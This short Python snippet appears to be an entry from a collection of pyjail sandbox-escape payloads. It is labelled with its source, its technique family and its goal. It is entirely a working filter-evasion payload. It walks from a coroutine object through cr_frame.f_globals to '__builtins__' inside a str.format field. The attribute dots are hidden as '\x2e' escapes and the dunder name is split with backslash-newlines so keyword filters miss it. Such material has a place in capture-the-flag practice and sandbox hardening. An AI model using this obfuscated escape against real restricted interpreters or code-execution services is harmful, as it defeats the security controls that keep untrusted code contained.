# source: pyjail coroutine frame escape (cr_frame.f_globals["__builtins__"]); adapted to str.format attribute reads
# family: format-field hidden by "\x2e" escape + backslash-newline split dunder
# goal: coroutine frame -> f_globals["__builtins__"] -> module builtins
async def co():
    return 1
c = co()
print("{0\x2ecr_frame\x2ef_globals[_\
_builtins_\
_]}".format(c))
c.close()
